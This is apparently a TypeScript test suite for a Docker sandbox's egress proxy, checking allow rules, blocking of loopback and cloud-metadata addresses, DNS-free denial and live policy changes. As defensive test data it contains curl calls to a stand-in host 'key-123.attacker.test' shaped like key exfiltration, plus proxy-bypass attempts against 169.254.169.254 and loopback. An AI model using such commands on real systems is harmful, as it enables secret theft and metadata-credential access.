import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import { createServer as createTcpServer, type Server as TcpServer, type Socket } from 'node:net'
import { networkInterfaces } from 'node:os'
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest'
import { requireDocker } from '../../testing/sandbox/index.ts'
import { type Box, dockerProvider, type EgressAttempt, type EgressGate, egressGate, isProxyRequest } from '../index.ts'
import type { SandboxProvider } from '../index.ts'

const own = Object.values(networkInterfaces())
  .flat()
  .find((one) => one?.family === 'IPv4' && !one.internal)?.address

const portOf = (server: Server | TcpServer): number => {
  const address = server.address()
  return typeof address === 'object' && address !== null ? address.port : 0
}

describe.runIf((await requireDocker()) && own !== undefined)('the way out of a box', () => {
  let provider: SandboxProvider
  let box: Box
  let gate: EgressGate
  let web: Server
  let echo: TcpServer
  const attempts: EgressAttempt[] = []
  const lookups: string[] = []
  const names: Record<string, string[]> = {
    'good.test': [own ?? ''],
    'rebound.test': ['127.0.0.1'],
    'cloud.test': ['169.254.169.254'],
  }

  beforeAll(async () => {
    web = createServer((request, response) => {
      const seen = [
        request.method,
        request.url,
        request.headers.host?.split(':')[0],
        request.headers['proxy-connection'],
      ]
      request.resume().on('end', () => response.end(`${seen.join(' ')}\n`))
    }).listen(0, '0.0.0.0')
    echo = createTcpServer((socket: Socket) => socket.on('error', () => undefined).pipe(socket)).listen(0, '0.0.0.0')
    await Promise.all([once(web, 'listening'), once(echo, 'listening')])
    gate = egressGate({
      onAttempt: (attempt) => attempts.push(attempt),
      resolve: async (host) => {
        lookups.push(host)
        return names[host] ?? Promise.reject(new Error('no such name'))
      },
    })
    provider = dockerProvider()
    const slot = await provider.openSlot()
    slot.serve({
      request: (request, response) =>
        isProxyRequest(request) ? gate.request(request, response) : void response.end('the model\n'),
      connect: (request, socket, head) => gate.connect(request, socket, head),
    })
    const image = await provider.ensureImage({ kind: 'paddock-base' })
    const egress = { allow: ['good.test'] }
    box = await provider.createBox({ image, profile: 'user', labels: { role: 'probe' }, modelPath: { slot }, egress })
  }, 300_000)
  afterAll(async () => {
    gate.close()
    await provider.close()
    web.close().closeAllConnections()
    echo.close()
  })
  beforeEach(() => {
    attempts.length = 0
    lookups.length = 0
    gate.set({ allow: ['good.test', `${own}/32`, 'rebound.test', 'cloud.test', '127.0.0.0/8', '169.254.0.0/16'] })
  })

  const sh = async (command: string): Promise<string> =>
    Buffer.from((await box.exec({ command, timeoutMs: 10_000 })).stdout).toString()

  it('carries plain requests and tunnels to what is allowed, and tells each', async () => {
    const url = `http://good.test:${portOf(web)}`
    expect(await sh(`curl -sS ${url}/a?b=1`)).toBe('GET /a?b=1 good.test \n')
    expect(await sh(`curl -sS -d body ${url}/`)).toBe('POST / good.test \n')
    expect(await sh(`curl -sS -p ${url}/tunnel`)).toBe('GET /tunnel good.test \n')
    expect(await sh(`curl -sS -p http://${own}:${portOf(web)}/ip`)).toBe(`GET /ip ${own} \n`)
    const told = { port: portOf(web), allowed: true, rule: `${own}/32` }
    expect(attempts).toEqual([
      ...Array.from({ length: 3 }, () => ({ ...told, host: 'good.test' })),
      { ...told, host: own },
    ])
  })

  it('leaves the model path direct', async () => {
    expect(await sh(`curl -sS ${box.modelUrl}/v1/models`)).toBe('the model\n')
    expect(attempts).toEqual([])
  })

  it('reaches no loopback and no metadata address by any name or spelling', async () => {
    const port = portOf(web)
    const targets = ['rebound.test', 'cloud.test', '127.0.0.1', '[::1]', '[::ffff:127.0.0.1]', '169.254.169.254']
    const bypass = "--noproxy ''"
    for (const target of targets) {
      for (const how of ['', '-p']) {
        const answer = await sh(`curl -sS -m 5 ${bypass} ${how} http://${target}:${port}/ 2>&1`)
        expect(answer).not.toContain('GET /')
      }
    }
    expect(attempts).toHaveLength(targets.length * 2)
    expect(attempts.filter(({ allowed }) => allowed)).toEqual([])
  })

  it('never asks a name server for what no rule names', async () => {
    expect(
      await sh(`curl -sS http://key-123.attacker.test/ 2>&1; curl -sS https://key-123.attacker.test/ 2>&1`),
    ).toContain('no rule')
    expect(lookups).toEqual([])
    expect(attempts.map(({ host, allowed, rule }) => [host, allowed, rule])).toEqual([
      ['key-123.attacker.test', false, 'no rule'],
      ['key-123.attacker.test', false, 'no rule'],
    ])
  })

  it('follows a new policy at once, also for tunnels that are open', async () => {
    const held = Promise.withResolvers<void>()
    const script = `import os, socket, sys
s = socket.create_connection(('127.0.0.1', ${new URL(box.modelUrl ?? '').port}))
s.sendall(b'CONNECT good.test:${portOf(echo)} HTTP/1.1\\r\\n\\r\\n')
assert b' 200 ' in s.recv(1000)
s.sendall(b'ping'); assert s.recv(10) == b'ping'
print('held', flush=True)
print('cut' if s.recv(10) == b'' else 'alive', flush=True)`
    const tunnel = box.exec({ command: ['python3', '-c', script], onStdout: () => held.resolve(), timeoutMs: 10_000 })
    await held.promise
    gate.set('none')
    expect(Buffer.from((await tunnel).stdout).toString()).toBe('held\ncut\n')
    expect(await sh(`curl -sS http://good.test:${portOf(web)}/ 2>&1`)).toContain('(none)')
    gate.set({ allow: [`good.test:${portOf(web)}`, own ?? ''] })
    expect(await sh(`curl -sS http://good.test:${portOf(web)}/`)).toContain('GET /')
  })

  it('tells a target that does not answer from one that is refused', async () => {
    const closed = createTcpServer().listen(0, '0.0.0.0')
    await once(closed, 'listening')
    const port = portOf(closed)
    await new Promise((resolve) => closed.close(resolve))
    expect(await sh(`curl -s -o /dev/null -w '%{http_code}' http://good.test:${port}/`)).toBe('502')
    expect(await sh(`curl -s -o /dev/null -w '%{http_connect}' -p http://good.test:${port}/`)).toBe('502')
    expect(await sh(`curl -s -o /dev/null -w '%{http_code}' http://unknown.test/`)).toBe('403')
  })
})
